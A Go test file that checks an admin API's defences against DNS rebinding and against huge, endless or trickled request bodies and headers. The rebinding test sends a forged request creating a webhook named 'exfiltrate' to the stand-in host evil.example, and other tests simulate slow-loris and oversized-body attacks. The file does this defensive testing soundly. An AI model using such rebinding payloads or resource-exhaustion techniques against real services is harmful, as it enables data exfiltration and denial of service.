package admin_test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/tablecast/tablecast/admin"
)

// TestRebindingRefusedWithoutAuth: without authentication (every request
// let in, on loopback), a DNS rebinding page (its name resolving to
// 127.0.0.1) sends requests with its own name as Host and Origin, which
// the browser takes as same-origin: even with AllowedHosts "*" (shared
// with a gateway behind a proxy), they are refused with 421 and write
// nothing. Names allowed by name, and addresses, are still served; with
// authentication "*" lets every Host in.
func TestRebindingRefusedWithoutAuth(t *testing.T) {
	h := start(t, func(c *admin.Config) {
		c.Auth = nil
		c.AllowedHosts = []string{"*", "admin.example.com"}
	})
	addr := strings.TrimPrefix(h.base, "http://")
	_, port, _ := net.SplitHostPort(addr)
	body := `{"name":"exfiltrate","type":"webhook","webhook":{"url":"https://evil.example/collect"}}`
	for _, host := range []string{"evil.example:" + port, "evil.example", "127.0.0.1.evil.example:" + port} {
		from := "Sec-Fetch-Site: same-origin\r\nOrigin: http://" + host + "\r\n"
		resp := rawRequest(t, addr, "GET /v1/endpoints HTTP/1.1\r\nHost: "+host+"\r\n"+from+"\r\n")
		if resp.StatusCode != 421 || errorCode(t, resp) != "misdirected" {
			t.Errorf("GET with Host %s: %d, want 421 misdirected", host, resp.StatusCode)
		}
		resp = rawRequest(t, addr, fmt.Sprintf("POST /v1/endpoints HTTP/1.1\r\nHost: %s\r\n%sContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", host, from, len(body), body))
		if resp.StatusCode != 421 {
			t.Errorf("POST with Host %s: %d, want 421", host, resp.StatusCode)
		}
	}
	for _, host := range []string{addr, "localhost:" + port, "admin.example.com:" + port} {
		if resp := rawRequest(t, addr, "GET /v1/endpoints HTTP/1.1\r\nHost: "+host+"\r\n\r\n"); resp.StatusCode != 200 {
			t.Errorf("GET with Host %s: %d, want 200", host, resp.StatusCode)
		}
	}
	var page pageJSON
	h.call(testCtx(t), "GET", "/v1/endpoints", nil, nil, 0, &page)
	if len(page.Items) != 0 {
		t.Fatalf("a rebinding page created %d endpoints", len(page.Items))
	}

	authed := start(t, func(c *admin.Config) { c.AllowedHosts = []string{"*"} })
	addr = strings.TrimPrefix(authed.base, "http://")
	if resp := rawRequest(t, addr, "GET /v1/endpoints HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer "+authed.writer+"\r\n\r\n"); resp.StatusCode != 200 {
		t.Errorf("with authentication and AllowedHosts *, Host api.example.com: %d, want 200", resp.StatusCode)
	}
}

// TestHugeAndSlowBodies: a stranger sending a body of gigabytes (by its
// length, or chunked without end) is answered 401 before authentication
// and 413 after, with the connection closed, and the API reads a bounded
// part of it; a body sent a byte at a time is cut by the read timeout
// (twice HeaderTimeout) and answered 400, and a head sent so is cut by
// HeaderTimeout.
func TestHugeAndSlowBodies(t *testing.T) {
	h := start(t, func(c *admin.Config) { c.HeaderTimeout = time.Second })
	addr := strings.TrimPrefix(h.base, "http://")
	auth := "Authorization: Bearer " + h.writer + "\r\n"
	// send writes head and then body chunks without end, until the
	// connection fails, and returns the answer and how much was written.
	send := func(head string, chunked bool) (*http.Response, int64) {
		t.Helper()
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(30 * time.Second))
		if _, err := io.WriteString(c, head); err != nil {
			t.Fatal(err)
		}
		written := make(chan int64, 1)
		go func() {
			chunk := []byte(strings.Repeat("x", 64<<10))
			if chunked {
				chunk = []byte(fmt.Sprintf("%x\r\n%s\r\n", len(chunk), chunk))
			}
			var n int64
			for n < 4<<30 {
				m, err := c.Write(chunk)
				n += int64(m)
				if err != nil {
					break
				}
			}
			written <- n
		}()
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("read the answer: %v", err)
		}
		// The server closes the connection after its answer: the writer
		// fails, having written what the server read and the sockets'
		// buffers took.
		_, _ = io.Copy(io.Discard, resp.Body)
		c.Close()
		return resp, <-written
	}
	const gib = 2 << 30
	post := "POST /v1/endpoints HTTP/1.1\r\nHost: " + addr + "\r\nContent-Type: application/json\r\n"
	for _, c := range []struct {
		what    string
		head    string
		chunked bool
		status  int
	}{
		{"2 GiB without a credential", post + fmt.Sprintf("Content-Length: %d\r\n\r\n", gib), false, 401},
		{"2 GiB with a credential", post + auth + fmt.Sprintf("Content-Length: %d\r\n\r\n", gib), false, 413},
		{"chunked without end, with a credential", post + auth + "Transfer-Encoding: chunked\r\n\r\n", true, 413},
	} {
		resp, n := send(c.head, c.chunked)
		if resp.StatusCode != c.status {
			t.Errorf("%s: %d, want %d", c.what, resp.StatusCode, c.status)
		}
		if n > 256<<20 {
			t.Errorf("%s: the client wrote %d MiB before the API let go", c.what, n>>20)
		}
	}

	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(30 * time.Second))
	fmt.Fprintf(c, "%s%sContent-Length: 1000\r\n\r\n", post, auth)
	start := time.Now()
	answered := make(chan *http.Response, 1)
	go func() {
		resp, _ := http.ReadResponse(bufio.NewReader(c), nil)
		answered <- resp
	}()
	var resp *http.Response
trickle:
	for {
		select {
		case resp = <-answered:
			break trickle
		case <-time.After(100 * time.Millisecond):
			_, _ = c.Write([]byte(" "))
		}
	}
	if resp == nil || resp.StatusCode != 400 || errorCode(t, resp) != "bad_request" {
		t.Errorf("a body a byte at a time: %v, want 400 bad_request", resp)
	}
	if d := time.Since(start); d > 15*time.Second {
		t.Errorf("a body a byte at a time held its request %s with a read timeout of 2s", d)
	}

	// A head a byte at a time: the connection is closed at HeaderTimeout.
	slow, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer slow.Close()
	_ = slow.SetDeadline(time.Now().Add(30 * time.Second))
	start = time.Now()
	closed := make(chan error, 1)
	go func() {
		// net/http answers 400 to a head cut short, or closes.
		b, err := io.ReadAll(slow)
		if err == nil && len(b) > 0 && !strings.HasPrefix(string(b), "HTTP/1.1 400 ") {
			err = fmt.Errorf("answered %q", b)
		}
		closed <- err
	}()
	head := post + auth + strings.Repeat("X-Slow: 1\r\n", 1000)
	for i := 0; ; i++ {
		select {
		case err := <-closed:
			if err != nil {
				t.Errorf("a head a byte at a time: %v, want the connection closed (after a 400)", err)
			}
			if d := time.Since(start); d > 15*time.Second {
				t.Errorf("a head a byte at a time held its connection %s with a head timeout of 1s", d)
			}
			return
		case <-time.After(100 * time.Millisecond):
			_, _ = slow.Write([]byte{head[i%len(head)]})
		}
	}
}
